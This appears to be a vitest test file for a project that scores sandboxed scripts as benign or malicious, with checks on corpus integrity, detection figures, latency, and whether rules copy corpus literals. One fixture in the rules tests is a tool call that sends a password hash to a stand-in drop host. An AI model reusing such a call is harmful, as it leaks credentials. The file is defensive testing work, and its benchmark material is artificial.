import { readdirSync, readFileSync } from 'node:fs';
import { createSource, parseScript } from '@enclave-vm/ast';
import * as core from '@enclave-vm/core';
import { beforeAll, describe, expect, it } from 'vitest';
import { type CorpusScript, checkCorpus, halfOf, type Part, parts, readCorpus } from '../eval/corpus.mjs';
import { figuresOf, type Judgement, judge, measureLatency } from '../eval/measure.mjs';
import { gatesOf, isRecorded } from '../eval/scorers/index.mjs';
import { labelsOf } from '../packages/core/src/3-score/labels/index.ts';
import { meansOf } from '../packages/core/src/3-score/means-of.ts';
import { scoringRules } from '../packages/core/src/3-score/rules/index.ts';
import { studyScript } from '../packages/core/src/3-score/study-script.ts';
import { findCorpusLiterals, type NamedText } from './corpus-literals.ts';

const { Enclave } = core;
const gates = gatesOf(core);
const scripts = readCorpus();
const secure = new Enclave({ securityLevel: 'SECURE' });
const validate: Parameters<typeof checkCorpus>[1] = (code, options) => secure.validate(code, options);
const textOf = (name: string) => readFileSync(new URL(`../eval/${name}`, import.meta.url), 'utf8');
const generalWords = textOf('general-words.txt').trim().split('\n');

/** What a scorer must reach, or else the build fails. */
interface Floors extends Record<Part, { recall: number; falsePositiveRate: number; auc: number }> {
  /** Median time of the gate for scripts of about 50 lines, as a multiple of that of the layers before. A recorded model has none. */
  readonly ofStaticLayers?: number;
}
const floors: Readonly<Record<string, Floors>> = JSON.parse(textOf('floors.json'));

describe('the corpus', () => {
  it('is whole: enough of both, each with its header, valid and unlike the others', () => {
    expect(checkCorpus(scripts, validate)).toEqual([]);
    for (const [part, least] of [
      ['development', 200],
      ['held-out', 200],
      ['unseen', 80],
    ] as const)
      expect(scripts.filter((script) => script.part === part).length).toBeGreaterThan(least);
  });

  it('keeps its halves', () => {
    expect(halfOf('benign/reports/weekly.js')).toBe('held-out');
    expect(halfOf('malicious/fraud/weekly.js')).toBe('development');
    expect(halfOf('benign/reports/weekly.ts')).toBe('held-out');
  });

  const script: CorpusScript = {
    path: 'benign/reports/a.js',
    id: 'benign/reports/a',
    label: 'benign',
    category: 'reports',
    part: 'development',
    about: 'Adds.',
    tools: ['a:b'],
    language: 'js',
    code: 'const total = 1;\nreturn total;',
  };
  it.each<[string, readonly Partial<CorpusScript>[]]>([
    ['0 malicious scripts', [{}]],
    ['the first line must be', [{ about: '' }]],
    ['the second line must be', [{ tools: [] }]],
    ['must be at <benign', [{ category: '' }]],
    ['is no valid program: line 1', [{ code: 'return eval("1")' }]],
    ['more than 80 lines', [{ code: 'let a;\n'.repeat(81) }]],
    ['a header inside', [{ code: '// about: fine\nreturn 1' }]],
    ['has the name of', [{}, { path: 'benign/reports/a.ts', code: 'return 5' }]],
    ['with other names', [{}, { id: 'b', path: 'b', code: '/* new */ const sum = 27; return sum; // sum' }]],
  ])('would not be whole with "%s"', (problem, variants) => {
    const found = checkCorpus(
      variants.map((variant) => ({ ...script, ...variant })),
      validate,
    );
    expect(found.join('\n')).toContain(problem);
  });
});

describe('the figures', () => {
  const of = (label: CorpusScript['label'], score: number | null): Judgement =>
    ({
      script: { label, category: 'x' },
      score,
      isDetected: score === null || score >= 70,
      isAsked: score === 20,
    }) as Judgement;

  it('are those of the textbook', () => {
    const figures = figuresOf([
      ...[90, 80, null, 20].map((score) => of('malicious', score)),
      ...[0, 20, 75, 10, 0].map((score) => of('benign', score)),
    ]);
    // Of 20 pairs the malicious script is higher in 5 + 5 + 5 + 3, and equal in one.
    expect(figures).toMatchObject({ precision: 0.75, recall: 0.75, falsePositiveRate: 0.2, auc: 18.5 / 20 });
    expect(figures.failures).toBe(1);
    expect(figures.asked).toEqual({ malicious: 1, benign: 1 });
    expect(figures.categories).toEqual([
      { name: 'benign/x', detected: 1, of: 5 },
      { name: 'malicious/x', detected: 3, of: 4 },
    ]);
  });
});

let recorded: readonly Judgement[];
beforeAll(async () => {
  recorded = (await judge(Enclave, gates['chat:recorded'] ?? {}, scripts)).filter(({ score }) => score !== null);
}, 120_000);

describe.each(Object.entries(floors))('the scorer %s', (name, floorsOfScorer) => {
  const gate = gates[name] as core.ScoringGateOptions;

  it('is at its floors on every part', async () => {
    const asked = isRecorded(name) ? recorded.map(({ script }) => script) : scripts;
    expect(asked.length / scripts.length).toBeGreaterThan(0.8);
    const judgements = name === 'chat:recorded' ? recorded : await judge(Enclave, gate, asked);
    for (const part of parts) {
      const { recall, falsePositiveRate, auc, failures } = figuresOf(
        judgements.filter(({ script }) => script.part === part),
      );
      const floor = floorsOfScorer[part];
      const figures = `${part}: recall ${recall}, false positives ${falsePositiveRate}, AUC ${auc}`;
      expect(recall, figures).toBeGreaterThanOrEqual(floor.recall);
      expect(falsePositiveRate, figures).toBeLessThanOrEqual(floor.falsePositiveRate);
      expect(auc, figures).toBeGreaterThanOrEqual(floor.auc);
      expect(failures, figures).toBe(0);
    }
  });

  const { ofStaticLayers } = floorsOfScorer;
  if (ofStaticLayers === undefined) return;
  it('is fast enough for scripts of about 50 lines', { retry: 2 }, async () => {
    const latency = await measureLatency(Enclave, gate, scripts, 3);
    expect(latency.scripts).toBeGreaterThan(5);
    expect(latency.ofStaticLayers, `${latency.medianMs} ms`).toBeLessThan(ofStaticLayers);
  });
});

describe('the rules', () => {
  const folder = new URL('../packages/core/src/3-score/', import.meta.url);
  // No rule can have read what was written after it.
  const texts: readonly NamedText[] = scripts
    .filter(({ part }) => part !== 'unseen')
    .map(({ part, path, code }) => ({ name: part === 'development' ? path : part, text: code }));
  const find = (text: string, corpus = texts) =>
    findCorpusLiterals([{ name: 'rule.ts', text }], corpus, new Set(generalWords)).map(({ literal }) => literal);

  it('name no literal of a corpus file', () => {
    // Scorers that ask a service hold no words about scripts.
    const sources = readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((name) => /(?<!\.(?:test|suite))\.ts$/.test(name) && !name.startsWith('scorers/'))
      .map((name) => ({ name, text: readFileSync(new URL(name, folder), 'utf8') }));
    expect(sources.length).toBeGreaterThan(20);
    const found = findCorpusLiterals(sources, texts, new Set(generalWords));
    expect(found, 'say it without the word, or, if any product would use the word, add it to the list').toEqual([]);
  });

  const corpus = [
    {
      name: 'x.js',
      text: "await tools.frobnix.dumpEverything({ url: 'https://drop.zone-9.example', userPasswordHash, to: 'Quarterly numbers' })",
    },
  ];
  it.each([
    ["const hosts = ['drop.zone-9.example']", 'drop.zone-9.example'],
    ['const host = `drop.zone-9.example`', 'drop.zone-9.example'],
    ['const host = /^drop\\.zone-9\\.example$/i', 'drop.zone-9.example'],
    ['const host = /[a-z]|(?:zone-9\\.ex)/', 'zone-9.ex'],
    ["const names = 'other frobnix.dumpEverything'.split(' ')", 'frobnix.dumpEverything'],
    ["if (title === 'Quarterly numbers') weight = 90", 'Quarterly numbers'],
    ["const weights: Record<string, number> = { 'dump-everything': 90 }", 'dump-everything'],
    ['const weights = { dumpeverything: 90 } as const', 'dumpeverything'],
  ])('would be found out with %s', (text, literal) => {
    expect(find(text, corpus)).toContain(literal);
  });

  it('may use the words of the field, of the language and of prose', () => {
    const text = `import x from 'frobnix.dumpEverything';
      const names = ['passwordhash', 'user_password', 'encodeURIComponent', 'Promise.all'];
      throw new Error('numbers such as those of Quarterly are not numbers');`;
    expect(find(text, corpus)).toEqual([]);
  });

  it('find nothing where they say that they are not needed', () => {
    const left: string[] = [];
    let unneeded = 0;
    for (const { code, path } of scripts) {
      const parsed = parseScript(code, { budget: createSource({ text: code }).budget, layer: 'validate' });
      if (!parsed.ok) continue;
      const study = studyScript(parsed.program, code, { labelsOf });
      const has = meansOf(study);
      for (const { id, needs, find } of scoringRules) {
        if (needs === undefined || has[needs]) continue;
        unneeded += 1;
        if (find(study).length > 0) left.push(`${id} finds something in ${path}, which has no ${needs}`);
      }
    }
    expect(left).toEqual([]);
    expect(unneeded).toBeGreaterThan(scripts.length);
  });

  it('are excused by general words alone', () => {
    expect(generalWords.filter((word) => !/^[a-z]{2,20}$/.test(word))).toEqual([]);
    expect(generalWords).toEqual([...new Set(generalWords)].sort());
  });
});
